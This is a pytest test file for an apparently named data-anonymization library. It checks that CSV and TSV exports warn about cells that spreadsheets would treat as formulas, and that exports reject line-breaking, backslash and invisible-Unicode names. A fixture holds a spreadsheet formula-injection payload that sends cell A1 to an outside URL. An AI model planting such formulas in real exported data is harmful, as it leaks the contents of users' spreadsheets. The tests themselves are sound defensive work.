"""Names that other programs take for formulas, two lines or other names: warned of or refused."""

from __future__ import annotations

import json
import warnings

import pandas as pd
import pyarrow as pa
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

import graphveil as gv
from forged.kit import reseal
from graphveil import io
from graphveil.core.errors import DataError, GraphveilWarning, InputError
from graphveil.data.spellings import alike, spelled_twice
from graphveil.io.parsed import other_than_integers, problem_of
from graphveil.io.writing import SEPARATORS
from graphveil.verify.database import database
from graphveil.verify.files.item_names import no_item

FORMULA = '=HYPERLINK("http://example.org/?"&A1)'
BEGINS = ("=1", "+cmd", "-x", "@SUM(A1)", "\t=1", "\r=1")
PLAIN = ("-5", "+1.5e3", "-.5", "tea", "a=1", "-", "1-2")


def likes(*items):
    """Return eight users, each with all of these items."""
    return gv.Bipartite.from_pairs(
        [user for user in range(8) for _ in items], [item for _ in range(8) for item in items]
    )


def warned_of(call):
    """Return the one warning of formulas of a call; an empty text where there is none."""
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        call()
    found = [str(each.message) for each in caught if "formula" in str(each.message)]
    assert len(found) <= 1
    return "".join(found)


@pytest.mark.parametrize("form", ["csv", "tsv", "txt"])
@pytest.mark.parametrize("name", BEGINS[:4])
def test_items_that_begin_as_formulas_are_counted_where_text_is_written(form, name, tmp_path):
    text = warned_of(lambda: io.write(likes(name, "tea"), tmp_path / f"out.{form}"))
    assert text.startswith("1 name begins with =, +, -, @,")
    assert 'format="parquet"' in text


@pytest.mark.parametrize("name", PLAIN)
def test_a_plain_number_and_other_text_are_no_formulas(name, tmp_path):
    assert "" == warned_of(lambda: io.write(likes(name, "tea"), tmp_path / "out.csv"))


def test_parquet_runs_no_formula(tmp_path):
    data = likes(FORMULA, "tea")
    assert "" == warned_of(lambda: io.write(data, tmp_path / "out.parquet"))


def test_columns_and_cells_are_counted_too(tmp_path):
    table = gv.Table.from_columns({"=col": ["@a", "b"], "x": ["\t=1", "-5"]})
    text = warned_of(lambda: io.write(table, tmp_path / "out.csv"))
    assert text.startswith("3 names begin with")


def test_a_release_in_text_warns_once_and_the_record_keeps_it(tmp_path):
    release = gv.SuppressK(k=2).anonymize(likes(FORMULA, "tea"))
    text = warned_of(lambda: release.write(tmp_path / "out", format="csv"))
    record = json.loads((tmp_path / "out.private" / "record.json").read_text())
    assert 1 == sum("would run such cells as formulas" in line for line in record["warnings"])
    assert text in record["warnings"]
    assert "formula" not in (tmp_path / "out" / "release.json").read_text()
    assert "" == warned_of(lambda: release.write(tmp_path / "other", format="parquet"))


def test_the_command_line_warns_in_anonymize_convert_and_measure(tmp_path, capfd, monkeypatch):
    from graphveil.cli import run  # noqa: PLC0415  one test alone needs it

    monkeypatch.chdir(tmp_path)
    io.write(likes(FORMULA, "tea"), tmp_path / "in.parquet")
    assert 0 == run(["convert", "in.parquet", "--out", "copy.csv"])
    assert "1 name begins with" in capfd.readouterr().err
    command = ["anonymize", "suppress-k", "in.parquet", "--k", "2", "--out", "out"]
    assert 0 == run([*command, "--format", "csv"])
    assert "1 name begins with" in capfd.readouterr().err
    people = gv.Bipartite.from_pairs(["=ann", "bob", "bob"], ["tea", "tea", "rye"])
    io.write(people, tmp_path / "people.parquet")
    assert 0 == run(["measure", "people.parquet", "--at-risk", "risk.csv"])
    assert "1 name begins with" in capfd.readouterr().err


def test_a_run_on_the_disk_warns_and_the_record_keeps_it(tmp_path):
    io.write(likes(FORMULA, "tea"), tmp_path / "in.parquet")
    run = ["anonymize", "suppress-k", str(tmp_path / "in.parquet"), "--k", "2", "--on-disk"]
    from graphveil.cli import run as command  # noqa: PLC0415  as above

    assert 0 == command([*run, "--out", str(tmp_path / "out"), "--format", "csv"])
    record = json.loads((tmp_path / "out.private" / "record.json").read_text())
    assert 1 == sum("would run such cells as formulas" in line for line in record["warnings"])


MARKS = [*"\v\f\x1c\x1d\x1e\x85\u2028\u2029"]


@pytest.mark.parametrize("form", ["csv", "tsv"])
@pytest.mark.parametrize("mark", MARKS)
def test_a_release_in_text_has_no_name_that_ends_a_line(mark, form, tmp_path):
    for data in (
        likes(f"te{mark}a", "rye"),
        gv.Table.from_columns({"x": [f"te{mark}a", "rye"] * 4}),
        gv.Table.from_columns({f"te{mark}a": ["tea", "rye"] * 4}),
    ):
        method = gv.SuppressK(k=2) if isinstance(data, gv.Bipartite) else gv.ClusterK(k=2)
        release = method.anonymize(data)
        with pytest.raises(InputError, match='format="parquet"'):
            release.write(tmp_path / "out", format=form)
        assert not (tmp_path / "out").exists()
        folder = release.write(tmp_path / f"good{len(list(tmp_path.iterdir()))}", format="parquet")
        assert [] == gv.verify_release(folder).failures()


def test_a_name_that_ends_in_a_backslash_stands_in_text_but_not_in_quotes(tmp_path):
    plain = gv.SuppressK(k=2).anonymize(likes("tea\\", "rye"))
    folder = plain.write(tmp_path / "plain", format="csv")
    assert [] == gv.verify_release(folder).failures()
    assert (
        plain.data.feature_labels().tolist()
        == gv.read_release(folder).data.feature_labels().tolist()
    )
    quoted = gv.SuppressK(k=2).anonymize(likes("tea\\", "rye, dark"))
    with pytest.raises(InputError, match="ends in a backslash"):
        quoted.write(tmp_path / "quoted", format="csv")
    table = gv.ClusterK(k=2).anonymize(gv.Table.from_columns({"a,\\": ["x", "y"] * 4}))
    with pytest.raises(InputError, match="ends in a backslash"):
        table.write(tmp_path / "quoted", format="csv")


@given(
    names=st.lists(
        st.text(st.sampled_from([*"ab\\,\"' é", *SEPARATORS.replace("-", "")]), min_size=1),
        min_size=2,
        max_size=4,
        unique=True,
    )
)
@example(names=["b\\", "a,"])
@example(names=["b\\", "a"])
def test_what_is_written_as_text_is_read_alike_by_pandas_with_an_escape(names, tmp_path_factory):
    folder = tmp_path_factory.mktemp("names")
    table = gv.Table.from_columns({"x": names, "y": [str(n) for n in range(len(names))]})
    try:
        io.write(table, folder / "out.csv")
    except InputError:
        return
    lines = (folder / "out.csv").read_text(encoding="utf-8")
    assert lines.splitlines() == lines.split("\n")[:-1]
    if '"' not in "".join(names):
        read = pd.read_csv(folder / "out.csv", dtype=str, escapechar="\\", keep_default_na=False)
        plain = pd.read_csv(folder / "out.csv", dtype=str, keep_default_na=False)
        assert len(plain) == len(read)


pytestmark = pytest.mark.filterwarnings("ignore::graphveil.GraphveilWarning")

UNREADABLE = {
    "look the same, by a character without width": ("tea\u200b", "rye"),
    "look the same, by a blank without width": ("tea\ufeff", "rye"),
    "are no whole numbers": ("7.5", "8.5"),
}


@pytest.mark.parametrize("why", UNREADABLE)
def test_items_that_read_release_refuses_fail_in_verify(why, tmp_path):
    """Items are exchanged in the file, and the folder is sealed anew."""
    data = likes("aaa", "bbb", "tea") if "look" in why else likes("aaa", "bbb")
    folder = gv.SuppressK(k=2).anonymize(data).write(tmp_path / "out", format="csv")
    path = folder / "data.csv"
    first, second = UNREADABLE[why]
    rows = path.read_text().replace("aaa", second).replace("bbb", first).splitlines()
    ordered = sorted(rows[1:], key=lambda row: (int(row.split(",")[0]), row.split(",")[1]))
    path.write_text("\n".join([rows[0], *ordered, ""]), encoding="utf-8")
    reseal(folder)
    with pytest.raises(InputError):
        gv.read_release(folder)
    failures = {check.name: check.detail for check in gv.verify_release(folder).failures()}
    assert failures["data"].startswith("data.csv: the item")


LETTERS = ["a", "7", "0", ".", "-", "e", " ", "\u200b", "\ufeff", "\u2003", "N", "\\n"]
LETTERS += ["NA", "null", "\u2060", "\u200e", "\u200d", "\ufe0f", "\u00ad"]

UNSEEN = [
    *map(chr, [0xAD, 0x34F, 0x61C, 0x115F, 0x1160, 0x17B4, 0x17B5, 0x200B, 0x200E, 0x200F]),
    *map(chr, [*range(0x202A, 0x202F), *range(0x2060, 0x2070), 0x3164, 0xFEFF, 0xFFA0]),
]


@pytest.mark.parametrize("unseen", UNSEEN, ids=lambda char: f"U+{ord(char):04X}")
def test_two_items_that_differ_by_what_no_eye_sees_look_the_same(unseen):
    texts = pa.array(["tea", f"te{unseen}a"])
    assert alike(texts) is not None
    with database() as db:
        db.put("entries", {"item": texts})
        assert "look the same" in no_item(db)


@pytest.mark.parametrize("joined", ["\u200c", "\u200d", "\ufe0f"])
def test_what_changes_the_form_of_a_neighbor_makes_another_item(joined):
    """Joiners in Persian, and those and selectors in emoji."""
    texts = pa.array(["tea", f"te{joined}a"])
    assert alike(texts) is None


@given(
    items=st.lists(
        st.lists(st.sampled_from(LETTERS), min_size=1, max_size=5).map("".join),
        min_size=1,
        max_size=4,
        unique=True,
    )
)
@example(items=["NA", "7"])
@example(items=["\\N", "7", "8"])
@example(items=["007", "7"])
@example(items=["-5", "7"])
@example(items=["-5", "ann"])
@example(items=["7e1", "8"])
@example(items=[str(2**63 - 1), "1"])
@example(items=[str(2**63), "1"])
@example(items=["1" + "0" * 50, "1"])
@example(items=["tea", "tea\u2003"])
def test_the_checker_refuses_the_items_that_the_reader_refuses(items):
    texts = pa.array(items)
    others = len(other_than_integers(texts))
    refused = problem_of(texts) is not None or (others > 0 and alike(texts) is not None)
    with database() as db:
        db.put("entries", {"item": texts})
        assert refused == (no_item(db) is not None)


@pytest.mark.parametrize("people", [("ann", "ann "), ("ann", "an\u200bn")])
def test_two_people_of_a_table_who_look_the_same_are_refused(people):
    columns = {"who": [*people, "bob"], "sex": ["f", "m", "f"]}
    with pytest.raises(DataError, match="look the same, but count as two people"):
        gv.Table.from_columns(columns, person="who")


SPELLINGS = [
    ("Ann@example.org", "ann@example.org"),
    ("Jos\xe9", "Jose\u0301"),
    ("\u039d\u03af\u03ba\u03bf\u03c2", "\u039d\u038a\u039a\u039f\u03a3"),
    ("7", "007"),
    ("JOSE\u0301 ", "jos\xe9 "),
]


@pytest.mark.parametrize("values", SPELLINGS)
def test_two_spellings_of_what_may_be_one_are_warned_of(values):
    columns = {"who": [value.strip() for value in values] + ["bob"], "sex": ["f", "m", "f"]}
    with pytest.warns(GraphveilWarning, match="in who count as two people") as said:
        gv.Table.from_columns(columns, person="who")
    assert 1 == len(said)
    ill = gv.Table.from_columns({"sex": ["f", "f", "m", "m"], "ill": [*values] * 2}, person="row")
    method = gv.Generalize(k=2, known="sex", attach="ill", diverse={"ill": 2})
    with pytest.warns(GraphveilWarning, match="in ill count as two different values"):
        method.anonymize(ill)


@pytest.mark.parametrize("values", [("7", "8"), ("ann", "anna"), ("a0", "a00"), (7, 8)])
def test_other_people_and_values_are_not(values):
    with warnings.catch_warnings():
        warnings.simplefilter("error", GraphveilWarning)
        gv.Table.from_columns({"who": [*values], "sex": ["f", "m"]}, person="who")
    assert "" == spelled_twice(map(str, values))
